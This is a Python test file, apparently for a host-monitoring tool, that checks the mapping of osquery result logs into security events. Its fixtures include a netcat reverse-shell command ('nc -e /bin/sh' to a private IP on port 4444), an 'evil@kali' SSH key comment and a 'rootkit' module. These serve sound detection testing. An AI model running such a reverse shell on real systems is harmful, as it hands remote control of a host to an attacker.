"""osquery result log lines (as osquery documents its result log format) mapped to herdwatch events: each
table, host identity from the decorations, sequence numbers without false loss, hostile lines refused."""

from __future__ import annotations

import base64
import contextlib
import struct
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from contract import ssh_keys
from contract.events import Kind, decode_batch, encode_batch
from detectors import HostState, SequenceGap
from streams.osquery_map import (
    BOOT_PREFIX,
    LineError,
    OsqueryHost,
    OsqueryMapping,
    decode_line,
    map_line,
)

DECORATIONS = {"instance_id": "i-0abc123", "ami_id": "ami-0web42", "region": "eu-west-1", "hostname": "web-7"}
MAPPING = OsqueryMapping(families={"ami-0web42": "web"})


def line(name: str, *, columns: dict[str, Any] | None = None, action: str = "added",
         snapshot: list[dict[str, Any]] | None = None, decorations: dict[str, Any] | None = None,
         unix: Any = 1772366590, diff: dict[str, Any] | None = None) -> bytes:
    """A result log line in osquery's documented format (differential, snapshot or batch)."""
    obj: dict[str, Any] = {"name": name, "hostIdentifier": "web-7.internal", "calendarTime":
                           "Sun Mar  1 12:03:10 2026 UTC", "unixTime": unix, "epoch": 0, "counter": 1,
                           "numerics": False, "decorations": DECORATIONS if decorations is None else decorations}
    if snapshot is not None:
        obj.update(snapshot=snapshot, action="snapshot")
    elif diff is not None:
        obj["diffResults"] = diff
    else:
        obj.update(columns=columns or {}, action=action)
    return orjson.dumps(obj)


def events(value: bytes, host: OsqueryHost | None = None, offset: int = 0, partition: int = 0) -> list[Any]:
    mapped = map_line(decode_line(value, MAPPING), host or OsqueryHost(), "osq:0", partition, offset)
    assert not mapped.rejected, mapped.rejected
    ok, bad = decode_batch(encode_batch(mapped.events), key=mapped.events[0].host_id if mapped.events else None)
    assert not bad, bad  # every event passes the contract exactly as the agent's do
    return ok


def test_processes_snapshot_and_differential() -> None:
    snap = [{"pid": "1", "name": "systemd", "path": "/usr/lib/systemd/systemd", "cmdline": "/sbin/init",
             "uid": "0", "parent": "0", "username": "root"},
            {"pid": "812", "name": "nc", "path": "/usr/bin/nc", "cmdline": "nc -e /bin/sh 10.77.0.5 4444",
             "uid": "33", "parent": "1"}]
    (inv,) = events(line("processes", snapshot=snap))
    assert inv.kind == Kind.PROCESS_INVENTORY and inv.host_id == "i-0abc123" and inv.image_id == "ami-0web42"
    assert inv.image_family == "web" and inv.tags["cloud.region"] == "eu-west-1"
    assert inv.tags["herdwatch.source"] == "osquery" and inv.boot_id == f"{BOOT_PREFIX}0"
    assert inv.payload["items"][1] == {"pid": 812, "exe": "/usr/bin/nc", "cmdline": "nc -e /bin/sh 10.77.0.5 4444",
                                       "user": "uid:33", "name": "nc", "ppid": 1}
    (start,) = events(line("pack_ir_processes", columns=snap[1]))
    assert start.kind == Kind.PROCESS_START and start.payload["pid"] == 812
    (gone,) = events(line("processes", columns={**snap[1], "path": ""}, action="removed"))
    assert gone.kind == Kind.PROCESS_EXIT and gone.payload["missing"] == ["exe"]


def test_sockets_name_the_exact_connection_and_owner() -> None:
    row = {"pid": "812", "fd": "3", "socket": "9921", "family": "2", "protocol": "6",
           "local_address": "10.0.1.7", "remote_address": "10.77.0.5", "local_port": "51234",
           "remote_port": "4444", "path": "", "state": "ESTABLISHED", "exe": "/usr/bin/nc", "username": "www-data"}
    (opened,) = events(line("process_open_sockets", columns=row))
    assert opened.kind == Kind.NET_OPEN
    assert opened.payload == {"state": "established", "proto": "tcp", "laddr": "10.0.1.7", "lport": 51234,
                              "raddr": "10.77.0.5", "rport": 4444, "pid": 812, "exe": "/usr/bin/nc",
                              "user": "www-data"}
    hs = HostState(opened.host_id, opened.image_id, opened.image_family)
    obs = hs.apply(opened)
    assert obs is not None and "dest:tcp/4444@10.77.0.0/24" in obs.added


def test_listeners_and_connections_from_two_queries_are_one_inventory() -> None:
    host = OsqueryHost()
    listen = [{"pid": "1", "port": "22", "protocol": "6", "family": "2", "address": "0.0.0.0", "fd": "3",
               "socket": "1", "path": ""}]
    conns = [{"pid": "812", "family": "10", "protocol": "6", "local_address": "::1", "remote_address": "::2",
              "local_port": "40000", "remote_port": "443", "state": "ESTABLISHED"},
             {"pid": "9", "family": "2", "protocol": "6", "local_address": "0.0.0.0", "remote_address": "0.0.0.0",
              "local_port": "80", "remote_port": "0", "state": "LISTEN"},
             {"pid": "9", "family": "2", "protocol": "6", "local_address": "1.1.1.1", "remote_address": "2.2.2.2",
              "local_port": "80", "remote_port": "5555", "state": "TIME_WAIT"}]
    events(line("listening_ports", snapshot=listen), host, offset=1)
    (inv,) = events(line("process_open_sockets", snapshot=conns), host, offset=2)
    items = inv.payload["items"]
    assert [(i["state"], i["proto"], i["lport"]) for i in items] == [
        ("listen", "tcp", 22), ("established", "tcp6", 40000), ("listen", "tcp", 80)]  # TIME_WAIT left out


def test_config_tables_build_the_agents_keys_and_never_erase_each_other() -> None:
    blob = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + b"\x07" * 32
    key_row = {"uid": "0", "username": "root", "algorithm": "ssh-ed25519", "key": base64.b64encode(blob).decode(),
               "comment": "evil@kali\x1b[2J", "key_file": "/root/.ssh/authorized_keys"}
    host = OsqueryHost()
    events(line("users", snapshot=[{"uid": "0", "gid": "0", "username": "root", "directory": "/root",
                                    "shell": "/bin/bash"}]), host, offset=1)
    events(line("hash", snapshot=[{"path": "/etc/passwd", "sha256": "a" * 64}]), host, offset=2)
    (inv,) = events(line("authorized_keys", snapshot=[key_row]), host, offset=3)
    items = inv.payload["items"]
    fp = ssh_keys.fingerprint(blob)
    assert items["user.root"] == "0:0:/root:/bin/bash" and items["file.sha256:/etc/passwd"] == "a" * 64
    assert items[f"authorized_keys.key:root:{fp}"] == "ssh-ed25519 evil@kali\\x1b[2J"
    assert len(items["authorized_keys:root"]) == 64
    assert base64.b64encode(blob).decode() not in orjson.dumps(items).decode()  # never the key itself
    changes = events(line("authorized_keys", columns=key_row, action="removed"), host, offset=4)
    assert [(c.kind, c.payload["after"]) for c in changes] == [(Kind.CONFIG_CHANGE, None)] * 2
    modes = events(line("file", snapshot=[{"path": "/etc/shadow", "mode": "0640", "uid": "0", "gid": "42"}]),
                   host, offset=5)
    assert modes[0].payload["items"]["file.mode:/etc/shadow"] == "0640"
    assert "user.root" in modes[0].payload["items"]


def test_packages_modules_and_logins() -> None:
    (deb,) = events(line("deb_packages", snapshot=[{"name": "openssh-server", "version": "1:9.6p1-3",
                                                    "arch": "amd64"}]))
    assert deb.kind == Kind.PACKAGE_INVENTORY and deb.payload == {"items": {"openssh-server": "1:9.6p1-3"},
                                                                  "manager": "dpkg"}
    (rpm,) = events(line("rpm_packages", columns={"name": "bash", "version": "5.1", "release": "2.el9"}))
    assert rpm.kind == Kind.PACKAGE_CHANGE and rpm.payload == {"key": "bash", "before": None, "after": "5.1-2.el9"}
    (mods,) = events(line("kernel_modules", snapshot=[{"name": "ext4", "size": "1", "used_by": "-",
                                                       "status": "Live", "address": "0x0"}]))
    assert mods.payload == {"items": {"ext4": "loaded"}}
    (gone,) = events(line("kernel_modules", columns={"name": "rootkit", "used_by": "-", "status": "Live"},
                          action="removed"))
    assert gone.kind == Kind.MODULE_CHANGE and gone.payload["after"] is None
    (logins,) = events(line("logged_in_users", snapshot=[
        {"type": "user", "user": "alice", "tty": "pts/0", "host": "10.0.0.9", "time": "1772366000", "pid": "5"},
        {"type": "login", "user": "LOGIN", "tty": "tty1", "host": "", "time": "0", "pid": "6"}]))
    assert logins.payload["items"] == [{"user": "alice", "terminal": "pts/0", "host": "10.0.0.9",
                                        "started": 1772366000.0}]


def test_batch_lines_and_query_names_mapped_by_columns_or_settings() -> None:
    row = {"pid": "5", "path": "/bin/sh", "cmdline": "sh", "uid": "0"}
    evs = events(line("weird_name", diff={"added": [row], "removed": [{**row, "pid": "4"}]}))
    assert [e.kind for e in evs] == [Kind.PROCESS_EXIT, Kind.PROCESS_START]  # recognised by its columns
    mapping = OsqueryMapping(queries={"my_q": "kernel_modules"})
    (part,) = decode_line(line("my_q", columns={"name": "x"}), mapping)
    assert part.table == "kernel_modules"


def test_identity_from_decorations_with_fallbacks() -> None:
    (part,) = decode_line(line("processes", snapshot=[], decorations={}), OsqueryMapping(default_image="img-1"))
    assert (part.host_id, part.image_id, part.image_family) == ("web-7.internal", "img-1", "img-1")
    (part,) = decode_line(line("processes", snapshot=[], decorations={"image_id": "sha256:abc", "role": "api"}),
                          OsqueryMapping())
    assert (part.image_id, part.image_family) == ("sha256:abc", "api")
    top = orjson.loads(line("processes", snapshot=[]))
    del top["decorations"]
    (part,) = decode_line(orjson.dumps({**top, **DECORATIONS}), MAPPING)  # --decorations_top_level
    assert (part.host_id, part.image_id) == ("i-0abc123", "ami-0web42")
    with pytest.raises(LineError, match="no image id"):
        decode_line(line("processes", snapshot=[], decorations={}), OsqueryMapping())
    with pytest.raises(LineError, match="no host identity"):
        decode_line(orjson.dumps({"name": "processes", "hostIdentifier": "bad host", "unixTime": 1,
                                  "snapshot": [], "decorations": {"ami_id": "ami-1"}}), MAPPING)


def test_sequence_numbers_are_consecutive_replays_repeat_and_no_loss_is_reported() -> None:
    host = OsqueryHost()
    gaps = SequenceGap()
    seen = []
    for offset in range(5):
        row = {"pid": str(100 + offset), "path": "/bin/true", "cmdline": "true", "uid": "0"}
        evs = events(line("processes", diff={"added": [row, {**row, "pid": str(200 + offset)}]}), host, offset)
        seen += evs
    assert [e.seq for e in seen] == list(range(10))
    assert all(gaps.check(e) is None for e in seen)
    again = events(line("processes", diff={"added": [{"pid": "103", "path": "/bin/true", "cmdline": "true",
                                                      "uid": "0"}, {"pid": "203", "path": "/bin/true",
                                                                    "cmdline": "true", "uid": "0"}]}), host, 3)
    assert [(e.seq, e.event_id) for e in again] == [(e.seq, e.event_id) for e in seen[6:8]]  # same seqs and ids
    older = map_line(decode_line(line("processes", snapshot=[]), MAPPING), OsqueryHost(seq=9, recent=[[7, 3]],
                                                                                       partition=0), "osq:0", 0, 2)
    assert older.replay and not older.events
    moved = events(line("processes", snapshot=[]), host, offset=0, partition=3)  # the host's key changed
    assert moved[0].boot_id == f"{BOOT_PREFIX}3" and moved[0].seq == 0 and gaps.check(moved[0]) is None
    assert OsqueryHost.from_json(orjson.loads(orjson.dumps(host.to_json()))) == host


@pytest.mark.parametrize("value, reason", [
    (None, "empty message"), (b"{", "not JSON"), (b"[1]", "JSON object"), (b'{"name": 1}', "no query"),
    (line("processes", unix="soon"), "unixTime"), (line("processes", unix=1), "outside"),
    (line("processes", action="changed"), "action"), (orjson.dumps({"name": "processes", "unixTime": 1772366590,
                                                                    "decorations": DECORATIONS}), "neither"),
    (line("who_knows", columns={"a": "b"}), "no mapped table"),
    (line("processes", snapshot=[1, 2]), "list of objects"),
])
def test_malformed_lines_are_refused_with_a_reason(value: bytes | None, reason: str) -> None:
    with pytest.raises(LineError, match=reason):
        decode_line(value, MAPPING)


scalars = st.none() | st.booleans() | st.integers(-2**63, 2**63 - 1) | st.floats(allow_nan=False) | st.text(max_size=20)
json_values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4)
                           | st.dictionaries(st.text(max_size=8), inner, max_size=4), max_leaves=12)
column_names = st.sampled_from(["pid", "path", "cmdline", "uid", "parent", "username", "port", "protocol",
                                "family", "address", "local_address", "remote_address", "local_port",
                                "remote_port", "state", "name", "version", "release", "arch", "algorithm", "key",
                                "comment", "sha256", "mode", "gid", "type", "user", "tty", "used_by", "status"])
rows = st.dictionaries(column_names, st.one_of(st.text(max_size=30), st.integers(-2**63, 2**63 - 1), st.none(),
                                                json_values), max_size=10)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(["processes", "listening_ports", "process_open_sockets", "logged_in_users", "users",
                        "authorized_keys", "deb_packages", "rpm_packages", "kernel_modules", "file", "hash", "q"]),
       st.lists(rows, max_size=4), st.sampled_from(["added", "removed", "snapshot", "batch"]),
       st.dictionaries(st.sampled_from(["instance_id", "ami_id", "image_id", "role", "region", "hostname"]),
                       json_values, max_size=4),
       st.one_of(st.integers(-10, 2**40), st.text(max_size=12), st.none()))
def test_hostile_lines_are_refused_or_mapped_to_valid_events(name: str, rs: list[dict[str, Any]], action: str,
                                                             decorations: dict[str, Any], unix: Any) -> None:
    if action == "snapshot":
        value = line(name, snapshot=rs, decorations=decorations, unix=unix)
    elif action == "batch":
        value = line(name, diff={"added": rs, "removed": rs[:1]}, decorations=decorations, unix=unix)
    else:
        value = line(name, columns=rs[0] if rs else {}, action=action, decorations=decorations, unix=unix)
    try:
        parts = decode_line(value, OsqueryMapping(default_image="img"))
    except LineError:
        return
    mapped = map_line(parts, OsqueryHost(), "osq:0", 0, 0)
    if mapped.events:
        ok, bad = decode_batch(encode_batch(mapped.events), key=mapped.events[0].host_id)
        assert not bad and len(ok) == len(mapped.events)
        assert [e.seq for e in ok] == list(range(len(ok)))


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300) | json_values.map(orjson.dumps))
def test_garbage_never_raises_anything_but_line_error(value: bytes) -> None:
    with contextlib.suppress(LineError):
        decode_line(value, MAPPING)
